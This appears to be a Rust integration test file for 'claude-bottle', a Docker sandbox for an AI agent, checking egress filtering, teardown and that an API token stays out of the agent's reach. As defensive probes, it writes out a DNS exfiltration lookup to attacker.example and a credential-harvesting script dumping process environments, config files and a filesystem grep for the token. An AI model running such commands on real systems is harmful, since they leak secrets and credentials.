//! `start --yes --prompt` on the real engine: a bottle comes up, the agent
//! reaches the sidecar's proxy and nothing else, its exit code comes back,
//! and teardown leaves nothing, also after SIGTERM.

use std::io::{BufRead, BufReader};
use std::process::{Command, Stdio};

const AGENT_BASE: &str = "claude-bottle-test/agent-base:bookworm";

struct Home {
    dir: tempfile::TempDir,
    agent: String,
}

fn home(tag: &str) -> Home {
    let dir = tempfile::tempdir().unwrap();
    let agent = format!("probe-{tag}-{}", std::process::id());
    let h = dir.path().join(".claude-bottle");
    std::fs::create_dir_all(h.join("bottles")).unwrap();
    std::fs::create_dir_all(h.join("agents")).unwrap();
    std::fs::write(
        h.join("bottles/probe.md"),
        "---\negress:\n  allow:\n    - host: allowed.test\n---\n",
    )
    .unwrap();
    std::fs::write(
        h.join(format!("agents/{agent}.md")),
        "---\nbottle: probe\n---\nYou probe.\n",
    )
    .unwrap();
    Home { dir, agent }
}

fn cli(h: &Home, run: &str, args: &[&str]) -> Command {
    let mut c = Command::new(env!("CARGO_BIN_EXE_claude-bottle"));
    c.args(args)
        .env("HOME", h.dir.path())
        .env("CLAUDE_BOTTLE_BASE_IMAGE", AGENT_BASE)
        .env("CLAUDE_BOTTLE_TEST_LABEL", run)
        .current_dir(h.dir.path())
        .stdin(Stdio::null());
    c
}

/// Labelled objects of this test run still on the engine.
fn leftovers(run: &str) -> Vec<String> {
    let filter = format!("label=io.claude-bottle.test={run}");
    let mut out = Vec::new();
    for (args, format) in [
        (["ps", "-a"], "{{.Names}}"),
        (["network", "ls"], "{{.Name}}"),
    ] {
        let o = Command::new("docker")
            .args(args)
            .args(["--filter", &filter, "--format", format])
            .output()
            .unwrap();
        assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
        out.extend(
            String::from_utf8_lossy(&o.stdout)
                .lines()
                .map(str::to_string),
        );
    }
    out
}

#[test]
fn start_prompt_round_trip() {
    if !super::images_ready("start_prompt_round_trip") {
        return;
    }
    let _images = super::image_lock();
    let run = format!("start-{}", std::process::id());
    let h = home("rt");
    let script = "curl -s -o /dev/null -w 'health %{http_code}\\n' http://claude-bottle.local/health; \
                  curl -s -o /dev/null -w 'denied %{http_code}\\n' http://denied.example/; \
                  nslookup c2VjcmV0.attacker.example >/dev/null 2>&1 && echo dns LEAK || echo dns refused; \
                  echo uid $(id -u); \
                  grep -c BEGIN /run/claude-bottle/ca-bundle.pem >/dev/null && echo ca ok; \
                  stat -c 'prompt %a' /run/claude-bottle/prompt.md; \
                  exit 3";
    let out = cli(&h, &run, &["start", &h.agent, "--yes", "--prompt", script])
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(
        out.status.code(),
        Some(3),
        "the agent's exit code:\n{stdout}\n{stderr}"
    );
    assert_eq!(
        stdout, "health 200\ndenied 403\ndns refused\nuid 1000\nca ok\nprompt 600\n",
        "{stderr}"
    );
    assert!(stderr.contains("the agent exited with code 3"), "{stderr}");
    assert_eq!(leftovers(&run), Vec::<String>::new());
}

#[test]
fn sigterm_tears_the_bottle_down() {
    if !super::images_ready("sigterm_tears_the_bottle_down") {
        return;
    }
    let _images = super::image_lock();
    let run = format!("sigterm-{}", std::process::id());
    let h = home("term");
    let mut child = cli(
        &h,
        &run,
        &["start", &h.agent, "--yes", "--prompt", "sleep 120"],
    )
    .stderr(Stdio::piped())
    .stdout(Stdio::null())
    .spawn()
    .unwrap();
    let mut err = BufReader::new(child.stderr.take().unwrap());
    let mut seen = String::new();
    loop {
        let mut line = String::new();
        if err.read_line(&mut line).unwrap() == 0 {
            panic!("the CLI ended before the bottle came up:\n{seen}");
        }
        seen.push_str(&line);
        if line.contains("is up") {
            break;
        }
    }
    assert!(
        !leftovers(&run).is_empty(),
        "the bottle is up while the agent runs"
    );
    Command::new("kill")
        .args(["-TERM", &child.id().to_string()])
        .status()
        .unwrap();
    let status = child.wait().unwrap();
    let mut rest = String::new();
    std::io::Read::read_to_string(&mut err, &mut rest).unwrap();
    assert_eq!(status.code(), Some(143), "{seen}{rest}");
    assert!(rest.contains("terminated: tearing down"), "{rest}");
    assert_eq!(leftovers(&run), Vec::<String>::new());
}

/// Row 5 of security.md, from both sides: the bottle's real token must not
/// be readable by the agent (env, every process's environ and cmdline,
/// files under /run and home) nor appear in `docker inspect` of any of the
/// bottle's containers. The bottle is kept (`--keep`) so the host side can
/// look while it runs, then `cleanup` removes it (its owner is gone).
#[test]
fn the_token_stays_in_the_sidecar() {
    if !super::images_ready("the_token_stays_in_the_sidecar") {
        return;
    }
    let _images = super::image_lock();
    let run = format!("token-{}", std::process::id());
    let h = home("tok");
    let token = "sk-ant-oat01-ROW5-NEVER-IN-THE-AGENT-0123456789";
    let bottles = h.dir.path().join(".claude-bottle/bottles");
    std::fs::write(
        bottles.join("probe.md"),
        "---\ntokens:\n  - kind: anthropic\n    token_ref: ROW5_TOKEN\negress:\n  allow:\n    - host: allowed.test\n---\n",
    )
    .unwrap();
    let attack = "env; for p in /proc/[0-9]*; do cat $p/environ $p/cmdline 2>/dev/null; echo; done; \
                  cat /run/claude-bottle/* ~/.claude.json ~/.gitconfig 2>/dev/null; \
                  grep -rs ROW5 / --exclude-dir=proc --exclude-dir=sys 2>/dev/null | head -5";
    let out = cli(
        &h,
        &run,
        &["start", &h.agent, "--yes", "--keep", "--prompt", attack],
    )
    .env("ROW5_TOKEN", token)
    .output()
    .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    let inspected = {
        let ids = Command::new("docker")
            .args([
                "ps",
                "-aq",
                "--filter",
                &format!("label=io.claude-bottle.test={run}"),
            ])
            .output()
            .unwrap();
        let ids: Vec<String> = String::from_utf8_lossy(&ids.stdout)
            .split_whitespace()
            .map(str::to_string)
            .collect();
        assert_eq!(ids.len(), 2, "agent and sidecar kept: {stderr}");
        let o = Command::new("docker")
            .arg("inspect")
            .args(&ids)
            .output()
            .unwrap();
        String::from_utf8_lossy(&o.stdout).to_string()
    };
    let cleaned = cli(&h, &run, &["cleanup", "-y", "--all"]).output().unwrap();
    assert!(
        cleaned.status.success(),
        "{}",
        String::from_utf8_lossy(&cleaned.stderr)
    );
    assert_eq!(leftovers(&run), Vec::<String>::new());

    assert!(out.status.success(), "{stdout}\n{stderr}");
    // The attack ran: it saw the placeholder the agent is given instead.
    assert!(
        stdout.contains("CLAUDE_CODE_OAUTH_TOKEN=cred-proxy-placeholder"),
        "{stdout}"
    );
    assert!(
        !stdout.contains(token) && !stdout.contains("ROW5-NEVER"),
        "the agent read the token:\n{stdout}"
    );
    assert!(
        inspected.contains("claude-bottle-probe-tok"),
        "inspect saw the containers"
    );
    assert!(!inspected.contains(token), "the token is in docker inspect");
    assert!(!stderr.contains(token), "the CLI printed the token");
}
